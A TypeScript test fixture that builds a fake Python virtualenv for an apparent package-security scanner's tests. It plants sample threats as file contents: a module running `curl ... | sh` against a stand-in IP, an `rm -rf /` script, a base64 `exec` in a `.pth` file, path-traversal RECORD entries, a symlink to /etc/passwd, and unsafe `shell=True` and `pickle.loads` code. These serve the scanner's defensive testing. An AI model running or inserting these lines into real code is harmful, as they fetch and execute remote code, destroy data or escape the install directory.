/**
 * Small fake installed environments for the environment-mode tests: a virtualenv with a
 * wheel-installed distribution (METADATA, RECORD with right and wrong hashes, entries outside
 * the prefix, a console script), a vulnerable Django, an `*.egg-info` with `top_level.txt`
 * only, `.pth` files and a symbolic link out of the environment.
 */
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

/** urlsafe base64 sha256 without padding, as RECORD writes it. */
export function recordHash(text: string): string {
  return `sha256=${createHash('sha256').update(text).digest('base64url')}`;
}

function put(root: string, rel: string, text: string): void {
  const abs = path.join(root, rel);
  mkdirSync(path.dirname(abs), { recursive: true });
  writeFileSync(abs, text);
}

export const SITE = 'lib/python3.11/site-packages';

/** The files of the fake environment, by path inside the site folder. */
export const GOOD_INIT = 'import json\n\ndef load(s):\n    return json.loads(s)\n';
export const GOOD_MOD_INSTALLED = 'def ok():\n    return 1\n';
export const GOOD_MOD_NOW = 'import os\n\ndef ok():\n    return os.system("curl http://198.51.100.7/x | sh")\n';

/**
 * Build a virtualenv at `<tmp>/venv` (returns its path). `withPyvenvCfg` false leaves out
 * `pyvenv.cfg` (then it is an ordinary folder with a `lib/…/site-packages` inside).
 */
export function makeVenv(opts: { parent?: string; name?: string } = {}): string {
  const parent = opts.parent ?? mkdtempSync(path.join(tmpdir(), 'krait-env-'));
  const venv = path.join(parent, opts.name ?? 'venv');
  put(venv, 'pyvenv.cfg', 'home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.11.7\n');
  const site = (rel: string, text: string) => put(venv, `${SITE}/${rel}`, text);
  // A wheel-installed distribution: one file as installed, one changed since, one added since.
  site('goodpkg/__init__.py', GOOD_INIT);
  site('goodpkg/mod.py', GOOD_MOD_NOW);
  site('goodpkg/added.py', 'import subprocess\n\ndef run(cmd):\n    return subprocess.call(cmd, shell=True)\n');
  const meta = 'Metadata-Version: 2.1\nName: goodpkg\nVersion: 1.0\nSummary: test\n\nLong description.\n';
  site('goodpkg-1.0.dist-info/METADATA', meta);
  site('goodpkg-1.0.dist-info/entry_points.txt', '[console_scripts]\ngood = goodpkg:main\n\n[other]\nx = y\n');
  put(venv, 'bin/good', '#!/tmp/venv/bin/python\nimport sys\nfrom goodpkg import main\nsys.exit(main())\n');
  put(parent, 'outside-secret.py', 'import os\nos.system("rm -rf /")\n');
  site(
    'goodpkg-1.0.dist-info/RECORD',
    [
      `goodpkg/__init__.py,${recordHash(GOOD_INIT)},${GOOD_INIT.length}`,
      `goodpkg/mod.py,${recordHash(GOOD_MOD_INSTALLED)},${GOOD_MOD_INSTALLED.length}`,
      `goodpkg/gone.py,${recordHash('x')},1`,
      `"goodpkg/link.py",${recordHash('x')},1`,
      `goodpkg-1.0.dist-info/METADATA,${recordHash(meta)},${meta.length}`,
      'goodpkg-1.0.dist-info/entry_points.txt,,',
      'goodpkg-1.0.dist-info/RECORD,,',
      `../../../bin/good,,`,
      `../../../../outside-secret.py,,`,
      '/etc/passwd,,',
      '..\\..\\evil.py,,',
    ].join('\n') + '\n',
  );
  symlinkSync('/etc/passwd', path.join(venv, SITE, 'goodpkg/link.py'));
  // A vulnerable version the embedded advisory data knows.
  site('Django-3.2.0.dist-info/METADATA', 'Metadata-Version: 2.1\nName: Django\nVersion: 3.2.0\n\n');
  site('Django-3.2.0.dist-info/RECORD', 'django/__init__.py,,\nDjango-3.2.0.dist-info/METADATA,,\nDjango-3.2.0.dist-info/RECORD,,\n');
  site('django/__init__.py', 'VERSION = (3, 2, 0)\n');
  // An egg-info without a file list: top_level.txt decides.
  site('legacy-2.0.egg-info/PKG-INFO', 'Metadata-Version: 1.1\nName: legacy\nVersion: 2.0\n');
  site('legacy-2.0.egg-info/top_level.txt', 'legacy\n');
  site('legacy/__init__.py', 'import pickle\n\ndef load(b):\n    return pickle.loads(b)\n');
  // .pth files: one that only lists a folder, one that runs a payload, one that imports a helper.
  site('paths.pth', '# a comment\n/opt/project/src\n');
  site('zz-evil.pth', "/opt/x\nimport os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n");
  site('helper.pth', 'import _helper_hook\n');
  site('_helper_hook.py', 'def hook():\n    return None\n');
  return venv;
}
